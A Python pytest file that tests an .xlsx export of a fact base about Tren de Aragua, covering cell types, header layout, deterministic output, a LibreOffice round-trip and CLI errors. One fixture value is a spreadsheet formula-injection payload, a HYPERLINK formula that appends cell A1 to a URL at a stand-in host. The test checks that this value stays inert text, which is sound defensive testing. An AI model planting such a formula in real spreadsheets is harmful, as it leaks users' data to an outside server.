"""The .xlsx workbook: typed cells read back with openpyxl, then opened by LibreOffice.

The base is the small fixture plus the hostile table rows (formula-like text, line breaks,
accents). Every sheet's every cell is compared with the table's own rows and column type.
"""

from __future__ import annotations

import hashlib
import io
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from conftest import require_tool
from rows import table_rows

from tda_export.cli import cli
from tda_export.factbase import FactBase
from tda_export.formats.tables import workbook
from tda_export.formats.tables.columns import TABLES, Column
from tda_export.models import LIST_SEPARATOR
from tda_export.validation import load_checked

HERE = Path(__file__).parent
SMALL = HERE / "fixtures" / "small" / "facts"
EXTRA = HERE / "fixtures" / "tables"
REAL = HERE.parent / "facts"


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> FactBase:
    facts = tmp_path_factory.mktemp("book") / "facts"
    shutil.copytree(SMALL, facts)
    for extra in EXTRA.glob("*.yaml"):
        shutil.copy(extra, facts)
    return load_checked(facts)


@pytest.fixture(scope="module")
def book_bytes(base: FactBase) -> bytes:
    out = io.BytesIO()
    assert workbook.write_xlsx(base, out) == len(TABLES)
    return out.getvalue()


@pytest.fixture(scope="module")
def book(book_bytes: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(book_bytes))


def expected(column: Column, value: Any) -> Any:
    """What the cell of ``value`` holds when read back."""
    if value is None or value == []:
        return None
    if isinstance(value, list):
        return LIST_SEPARATOR.join(value)
    if column.type == "date":
        return datetime(value.year, value.month, value.day)
    if isinstance(value, str):
        return workbook.line_breaks(value)
    return value


def test_sheets_in_order(book: Any) -> None:
    assert book.sheetnames == ["about", *TABLES]


@pytest.mark.parametrize("name", TABLES)
def test_every_column_keeps_its_type(book: Any, base: FactBase, name: str) -> None:
    """Text is text (never a formula or a date), numbers numbers, *_start/*_end dates."""
    sheet = book[name]
    columns = TABLES[name].columns
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]] == [c.name for c in columns]
    wanted = list(table_rows(base, name))
    assert len(rows) - 1 == len(wanted)
    for cells, row in zip(rows[1:], wanted, strict=True):
        for cell, column in zip(cells, columns, strict=True):
            value = expected(column, row[column.name])
            assert cell.value == value, (name, column.name)
            if value is None:
                continue
            if column.type == "date":
                assert cell.data_type == "d" or cell.is_date, (name, column.name)
                assert cell.number_format == "yyyy-mm-dd"
            elif column.type in ("integer", "number"):
                assert cell.data_type == "n", (name, column.name)
            else:
                assert cell.data_type == "s", (name, column.name)


def test_header_frozen_filtered_and_wide_enough(book: Any) -> None:
    for name, table in TABLES.items():
        sheet = book[name]
        assert sheet.freeze_panes == "A2"
        last = openpyxl.utils.get_column_letter(len(table.columns))
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}"
        widths = {
            index: dim.width
            for dim in sheet.column_dimensions.values()
            for index in range(dim.min, dim.max + 1)
        }
        for index, column in enumerate(table.columns, start=1):
            assert widths[index] >= len(column.name) + 1, (name, column.name)


def test_fuzzy_words_and_formula_text_stay_text(book: Any) -> None:
    events = book["events"]
    header = [c.value for c in events[1]]
    rows = list(events.iter_rows(min_row=2))
    shown = [row[header.index("date_display")] for row in rows]
    assert [c.data_type for c in shown if c.value == "April 2017"] == ["s"]
    titles = {row[header.index("title")].value: row[header.index("title")] for row in rows}
    hostile = titles['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")']
    assert hostile.data_type == "s"  # no apostrophe added, and not a formula


def test_about_sheet_explains_tables_and_sources(book: Any, base: FactBase) -> None:
    text = [str(v) for row in book["about"].iter_rows(values_only=True) for v in row if v]
    assert text[0] == "Tren de Aragua: the fact base as tables"
    for name in TABLES:
        assert name in text
    for source in base.sources:
        assert source.id in text


def test_same_facts_same_bytes(base: FactBase, book_bytes: bytes) -> None:
    again = io.BytesIO()
    workbook.write_xlsx(base, again)
    assert again.getvalue() == book_bytes
    props = openpyxl.load_workbook(io.BytesIO(book_bytes)).properties
    assert props.created == workbook.created(base)  # from the data, not the clock


@pytest.mark.client
def test_libreoffice_opens_it_with_accents_and_text(
    book_bytes: bytes, base: FactBase, tmp_path: Path
) -> None:
    """LibreOffice Calc opens the workbook and saves it again: the cells keep their types."""
    soffice = require_tool("soffice")
    (tmp_path / "book.xlsx").write_bytes(book_bytes)
    subprocess.run(
        [soffice, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
         "--convert-to", "xlsx", "--outdir", str(tmp_path / "calc"), str(tmp_path / "book.xlsx")],
        check=True, capture_output=True, timeout=300,
    )  # fmt: skip
    resaved = openpyxl.load_workbook(tmp_path / "calc" / "book.xlsx")
    assert resaved.sheetnames == ["about", *TABLES]
    for name, table in TABLES.items():
        rows = list(resaved[name].iter_rows(min_row=2))
        wanted = list(table_rows(base, name))
        assert len(rows) == len(wanted)
        for cells, row in zip(rows, wanted, strict=True):
            for cell, column in zip(cells, table.columns, strict=True):
                value = expected(column, row[column.name])
                if isinstance(value, str):
                    # LibreOffice keeps text as text: formula-like, date-like, accented
                    assert cell.data_type == "s", (name, column.name, cell.value)
                    assert cell.value == value
                elif isinstance(value, datetime):
                    assert cell.value == value
    places = [row[1] for row in resaved["places"].iter_rows(min_row=2, values_only=True)]
    assert "Tocorón prison" in places


def test_real_base_workbook_keeps_april_2017_as_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(_real_bytes()))
    events = book["events"]
    header = [c.value for c in events[1]]
    column = header.index("date_display")
    cells = [row[column] for row in events.iter_rows(min_row=2)]
    april = [c for c in cells if c.value == "April 2017"]
    assert april and all(c.data_type == "s" for c in april)
    starts = [row[header.index("date_start")] for row in events.iter_rows(min_row=2)]
    assert all(isinstance(c.value, datetime) for c in starts if c.value is not None)
    assert starts[0].value.date() <= date(2025, 12, 31)


def _real_bytes() -> bytes:
    out = io.BytesIO()
    workbook.write_xlsx(load_checked(REAL), out)
    return out.getvalue()


def test_cli_writes_the_workbook(tmp_path: Path) -> None:
    target = tmp_path / "book.xlsx"
    result = CliRunner().invoke(cli, ["xlsx", "--facts", str(SMALL), "-o", str(target)])
    assert result.exit_code == 0, result.output
    out = io.BytesIO()
    workbook.write_xlsx(load_checked(SMALL), out)
    assert hashlib.sha256(target.read_bytes()).digest() == hashlib.sha256(out.getvalue()).digest()


def test_cli_refuses_standard_output() -> None:
    result = CliRunner().invoke(cli, ["xlsx", "--facts", str(SMALL), "-o", "-"])
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == (
        "Error: a workbook is a file: give -o FILE.xlsx (not -)"
    )


def test_cli_needs_an_output() -> None:
    result = CliRunner().invoke(cli, ["xlsx", "--facts", str(SMALL)])
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == "Error: Missing option '-o' / '--output'."
